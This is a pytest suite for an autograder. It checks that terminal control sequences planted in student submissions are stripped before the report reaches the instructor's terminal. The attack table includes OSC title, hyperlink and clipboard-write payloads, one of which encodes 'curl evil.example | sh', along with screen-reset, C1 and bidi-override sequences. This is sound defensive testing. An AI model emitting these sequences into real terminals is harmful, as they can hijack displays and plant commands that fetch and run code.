"""Text a student controls reaches the instructor's terminal without a control sequence: each
class of sequence is planted in an error, an output, a file name, a check's message and a note,
and the terminal output is read back the way a terminal would read it."""

from __future__ import annotations

import io
import re

import pytest
from rich.console import Console

from grader.boundary.execution import CellError, CellRun, Execution
from grader.evidence.facts import Facts
from grader.outcome import Message
from grader.record import CheckResult, Record
from grader.report.safe_text import SafeConsole, terminal_safe
from grader.report.summary import summary_renderable
from grader.report.terminal import report, result_line
from grader.report.view import build_view

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
ATTACKS = {
    "window title (OSC 0, BEL)": f"{ESC}]0;pwned title{BEL}",
    "window title (OSC 2, ST)": f"{ESC}]2;pwned title{ST}",
    "clipboard write (OSC 52)": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}",
    "hyperlink (OSC 8)": f"{ESC}]8;;https://evil.example/{ST}click{ESC}]8;;{ST}",
    "DCS": f"{ESC}P1$qm{ST}",
    "DCS (tmux passthrough)": f"{ESC}Ptmux;{ESC}{ESC}]0;x{BEL}{ST}",
    "alternate screen (CSI ?1049h)": f"{ESC}[?1049h",
    "clear screen and home (CSI 2J, H)": f"{ESC}[2J{ESC}[H",
    "colour with parameters (CSI 38;2)": f"{ESC}[38;2;0;255;0m✔ passed{ESC}[0m",
    "cursor up and erase line": f"{ESC}[3A{ESC}[2K",
    "terminal reset (ESC c)": f"{ESC}c",
    "C1 CSI": "\x9b?1049h",
    "C1 OSC": "\x9d0;pwned title\x9c",
    "C1 DCS": "\x90q\x9c",
    "carriage return, backspace, bell": "hidden\rshown\b\b\x07",
    "bidirectional override": "\u202egnp.exe",
}


def hostile(attack: str) -> str:
    return f"before {attack} after"


COLOURS = re.compile(r"\x1b\[[0-9;]*m")


def obeyed(output: str, colours: set[str] = set()) -> list[str]:
    """What a terminal would act on in ``output``: an escape, a C1 control, BEL, BS, CR, a
    bidirectional override; rich's own colours (``colours``: SGR sequences) aside."""
    own = COLOURS.sub(lambda m: "" if m[0] in colours else m[0], output)
    return re.findall(r"[\x1b\x07\x08\x0d\x7f-\x9f\u202a-\u202e\u2066-\u2069]", own)


def render(attack: str, console_class: type[Console] = SafeConsole) -> str:
    """The report, a batch's result line and the class summary, as a colour terminal gets them."""
    view = build_view(_record(attack), "en", f"alice{attack}", None, "", instructor=True)
    document = {
        "id": f"alice{attack}",
        "status": "graded",
        "score": 0.0,
        "max_score": 1.0,
        "duration_s": 1.0,
        "checks": [{"id": "run.cells", "status": "failed", "key": "x", "message": attack}],
    }
    terminal = io.StringIO()
    console = console_class(file=terminal, width=200, force_terminal=True, color_system="truecolor")
    console.print(report(view))
    console.print(result_line(document, "en"), highlight=False)
    console.print(summary_renderable([document], "en"))
    return terminal.getvalue()


def _record(attack: str) -> Record:
    text = hostile(attack)
    execution = Execution(
        "completed",
        (CellRun(1, "x = 1", "error", 0.1, CellError("ValueError", text, f"trace {text}"), text),),
        1.0,
        False,
    )
    return Record(
        assignment="week8",
        submission=f"alice{attack}.ipynb",
        status="invalid_submission",
        score=0.0,
        max_score=1.0,
        duration_s=1.0,
        checks=(
            CheckResult(
                "run.cells", "run", "failed", 0.0, 1.0, Message("submission.folder_several", {})
            ),
        ),
        error=Message("submission.folder_several", {"detail": text}),
        facts=Facts(execution=execution, dataset="mnist", synthetic_data=False),
    )


# rich's own colours: those of the same report with nothing planted.
RICH_COLOURS = set(COLOURS.findall(render("")))


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_no_control_sequence_in_student_text_reaches_the_terminal(attack: str) -> None:
    output = render(attack)
    assert obeyed(output, RICH_COLOURS) == []
    # The student's own words are still there, and rich's colours too.
    assert "before" in output and "after" in output and "\x1b[" in output


@pytest.mark.parametrize(
    "attack",
    [a for a in ATTACKS.values() if "\r" not in a],
    ids=[n for n in ATTACKS if "bell" not in n],
)
def test_a_plain_console_would_have_passed_them_on(attack: str) -> None:
    """The test above can fail: through rich's own console each sequence reaches the terminal
    (rich strips only CR, BS and BEL itself)."""
    assert obeyed(render(attack, Console), RICH_COLOURS)


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_terminal_safe_keeps_the_text_and_drops_the_sequence(attack: str) -> None:
    cleaned = terminal_safe(hostile(attack) + "\nline two\tcolumn")
    assert obeyed(cleaned) == [] and "\x1b" not in cleaned
    assert cleaned.startswith("before ") and cleaned.endswith(" after\nline two\tcolumn")
    # No payload survives a complete sequence: the title, the clipboard and the link target.
    assert "pwned" not in cleaned and "Y3Vyb" not in cleaned and "evil.example" not in cleaned


def test_the_pytest_front_ends_failure_text_is_cleaned_too() -> None:
    from grader.plugin import CheckFailed, CheckItem

    view = build_view(_record(ATTACKS["hyperlink (OSC 8)"]), "en", "alice", None, "")
    check = view.checks[0]
    error = CheckFailed(check, f"found: {ATTACKS['hyperlink (OSC 8)']}")

    class Info:
        value = error

    assert obeyed(CheckItem.repr_failure(None, Info())) == []  # type: ignore[arg-type]
